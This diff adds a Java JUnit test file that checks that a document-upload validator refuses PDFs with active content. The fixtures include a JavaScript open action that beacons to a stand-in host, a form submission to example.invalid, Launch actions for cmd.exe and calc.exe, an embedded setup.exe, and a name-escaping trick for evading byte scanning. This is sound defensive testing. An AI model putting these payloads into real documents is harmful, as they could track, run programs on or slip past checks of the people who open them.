@@ -1,0 +1,169 @@
+package cn.liaocheng.renewal.document;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import java.util.Map;
+
+import org.apache.pdfbox.cos.COSString;
+import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
+import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
+import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
+import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
+import org.apache.pdfbox.pdmodel.PDPage;
+import org.apache.pdfbox.pdmodel.common.PDRectangle;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
+import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
+import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
+import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
+import org.junit.jupiter.api.Test;
+
+/**
+ * A PDF with a script, an action that starts a program, or an embedded file is refused at
+ * upload, however the file packs or spells it; links to web addresses and jumps inside
+ * the document are taken.
+ */
+class PdfActiveContentTest {
+
+	private static final String ADVICE = "，审核人员下载打开时可能自动运行，不能作为申报材料；请用“打印为 PDF”另存，或上传扫描件";
+
+	@Test
+	void aScriptRunWhenTheFileOpensIsRefusedPackedInObjectStreamsOrNot() throws IOException {
+		for (CompressParameters packing : List.of(CompressParameters.DEFAULT_COMPRESSION,
+				CompressParameters.NO_COMPRESSION)) {
+			byte[] pdf = save(
+					document -> document.getDocumentCatalog()
+						.setOpenAction(new PDActionJavaScript("app.launchURL('http://example.invalid/beacon');")),
+					packing);
+			assertThat(Previews.uploadProblem("营业执照.pdf", pdf)).as(packing.toString())
+				.hasValue("“营业执照.pdf”含有脚本（JavaScript）" + ADVICE);
+		}
+		assertThat(BoundedPdf.mentions(
+				save(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1);")),
+						CompressParameters.DEFAULT_COMPRESSION),
+				"/JavaScript"))
+			.as("packed in an object stream, the name is not in the file's own bytes")
+			.isFalse();
+	}
+
+	@Test
+	void aDocumentScriptInTheNameTreeIsRefused() throws IOException {
+		byte[] pdf = save(document -> {
+			PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
+			scripts.setNames(Map.of("init", new PDActionJavaScript("this.submitForm('http://example.invalid');")));
+			PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
+			names.setJavascript(scripts);
+			document.getDocumentCatalog().setNames(names);
+		}, CompressParameters.DEFAULT_COMPRESSION);
+		assertThat(Previews.uploadProblem("合同.pdf", pdf)).hasValue("“合同.pdf”含有脚本（JavaScript）" + ADVICE);
+	}
+
+	@Test
+	void aLinkThatStartsAProgramIsRefused() throws IOException {
+		byte[] pdf = save(document -> {
+			PDActionLaunch launch = new PDActionLaunch();
+			launch.setFile(new PDSimpleFileSpecification(new COSString("C:\\Windows\\System32\\cmd.exe")));
+			link(document.getPage(0), launch);
+		}, CompressParameters.DEFAULT_COMPRESSION);
+		assertThat(Previews.uploadProblem("发票.pdf", pdf)).hasValue("“发票.pdf”含有启动程序或打开其他文件的动作" + ADVICE);
+	}
+
+	@Test
+	void anEmbeddedFileIsRefused() throws IOException {
+		byte[] pdf = save(document -> {
+			PDEmbeddedFile file = new PDEmbeddedFile(document,
+					new ByteArrayInputStream("MZ".getBytes(StandardCharsets.US_ASCII)));
+			PDComplexFileSpecification specification = new PDComplexFileSpecification();
+			specification.setFile("setup.exe");
+			specification.setEmbeddedFile(file);
+			PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
+			files.setNames(Map.of("setup.exe", specification));
+			PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
+			names.setEmbeddedFiles(files);
+			document.getDocumentCatalog().setNames(names);
+		}, CompressParameters.DEFAULT_COMPRESSION);
+		assertThat(Previews.uploadProblem("设备清单.pdf", pdf)).hasValue("“设备清单.pdf”含有嵌入的文件" + ADVICE);
+	}
+
+	/**
+	 * A reader decodes {@code #xx} in names, so {@code /Java#53cript} is a script; the
+	 * escaped spelling (which also shifts the file's offsets, so it is read repaired) is
+	 * refused as the plain one is.
+	 */
+	@Test
+	void anEscapedSpellingOfTheActionIsRefusedToo() throws IOException {
+		byte[] plain = save(document -> {
+			PDActionLaunch launch = new PDActionLaunch();
+			launch.setFile(new PDSimpleFileSpecification(new COSString("calc.exe")));
+			document.getDocumentCatalog().setOpenAction(launch);
+		}, CompressParameters.NO_COMPRESSION);
+		String text = new String(plain, StandardCharsets.ISO_8859_1);
+		assertThat(text).contains("/Launch");
+		byte[] escaped = text.replace("/Launch", "/La#75nch").getBytes(StandardCharsets.ISO_8859_1);
+		assertThat(BoundedPdf.mentions(escaped, "/Launch")).isFalse();
+		assertThat(Previews.uploadProblem("营业执照.pdf", escaped)).hasValue("“营业执照.pdf”含有启动程序或打开其他文件的动作" + ADVICE);
+	}
+
+	/**
+	 * A file PDFBox cannot read is judged from its bytes: refused if it names a script,
+	 * taken (as damaged files were) if it names nothing active.
+	 */
+	@Test
+	void aDamagedFileNamingAScriptIsRefusedAndOneNamingNothingActiveIsTaken() {
+		byte[] damaged = "%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> ... garbage"
+			.getBytes(StandardCharsets.US_ASCII);
+		assertThat(Previews.uploadProblem("扫描件.pdf", damaged)).hasValue("“扫描件.pdf”含有脚本、动作或嵌入文件等可自动运行的内容" + ADVICE);
+		byte[] plainDamaged = "%PDF-1.7\n1 0 obj << /Type /Catalog ... garbage".getBytes(StandardCharsets.US_ASCII);
+		assertThat(Previews.uploadProblem("扫描件.pdf", plainDamaged)).isEmpty();
+	}
+
+	@Test
+	void aLinkToAWebAddressAndAJumpInsideTheDocumentAreTaken() throws IOException {
+		byte[] pdf = save(document -> {
+			PDActionURI uri = new PDActionURI();
+			uri.setURI("https://www.liaocheng.gov.cn/");
+			link(document.getPage(0), uri);
+			PDPageFitDestination first = new PDPageFitDestination();
+			first.setPage(document.getPage(0));
+			PDActionGoTo jump = new PDActionGoTo();
+			jump.setDestination(first);
+			document.getDocumentCatalog().setOpenAction(jump);
+		}, CompressParameters.DEFAULT_COMPRESSION);
+		assertThat(Previews.uploadProblem("项目备案证明.pdf", pdf)).isEmpty();
+	}
+
+	private static void link(PDPage page, PDAction action) throws IOException {
+		PDAnnotationLink link = new PDAnnotationLink();
+		link.setRectangle(new PDRectangle(50, 50, 200, 20));
+		link.setAction(action);
+		page.getAnnotations().add(link);
+	}
+
+	private interface Content {
+
+		void add(PDDocument document) throws IOException;
+
+	}
+
+	private static byte[] save(Content content, CompressParameters packing) throws IOException {
+		try (PDDocument document = new PDDocument()) {
+			document.addPage(new PDPage());
+			content.add(document);
+			ByteArrayOutputStream out = new ByteArrayOutputStream();
+			document.save(out, packing);
+			return out.toByteArray();
+		}
+	}
+
+}
